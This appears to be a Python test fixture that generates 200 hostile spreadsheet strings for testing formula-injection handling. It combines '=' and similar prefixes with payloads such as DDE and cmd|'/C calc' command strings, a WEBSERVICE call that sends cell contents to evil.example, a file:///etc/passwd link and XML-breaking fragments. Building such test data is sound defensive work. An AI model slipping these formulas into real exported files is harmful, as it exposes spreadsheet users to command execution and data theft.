"""Two hundred strings that a spreadsheet could take for something else."""

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "{=", "=@", "==", "＝", "=+")
PAYLOADS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example","here")',
    'WEBSERVICE("http://evil.example/"&A1)',
    "SUM(A1:A9)",
    'IMPORTXML("http://evil.example","//a")',
    "'[other.xlsx]Sheet'!A1",
    'DDE("cmd";"/C calc";"")',
    "A1}",
    "<script>alert(1)</script>",
)
LINKS = (
    "http://evil.example/",
    "https://evil.example/?q=1",
    "ftp://evil.example",
    "mailto:someone@evil.example",
    "file:///etc/passwd",
    "internal:Results!A1",
    "external:other.xlsx",
    "\\\\evil.example\\share",
)
ODD = (
    "]]></t><f>1+1</f><t>",
    "</t></si><si><t>=1+1",
    "&lt;f&gt;1&lt;/f&gt;",
    "_x003D_1+1",
    "\x00\x01\x08\x0b\x1f=1+1",
    "\ufffe\uffff=1",
    "\u202e=1+1",
    "\u200b=1+1",
    "{0} {name} {{}}",
    "%s %d %(x)s",
    "&L&A&R&P",
    "0x10",
    "1e308",
    "00123",
    "2024-01-01",
    "TRUE",
    "#REF!",
    "#DIV/0!",
    "null",
    "🙂 =1+1",
    "ß" * 40_000,
    "=" * 33_000,
)


def hostile() -> list[str]:
    """Return 200 strings that a spreadsheet could take for something else."""
    texts = [start + payload for start in STARTS for payload in PAYLOADS]
    texts += [*LINKS, *ODD]
    texts += [f'"{text}"' for text in texts[: 200 - len(texts)]]
    assert len(set(texts)) >= 200
    return texts
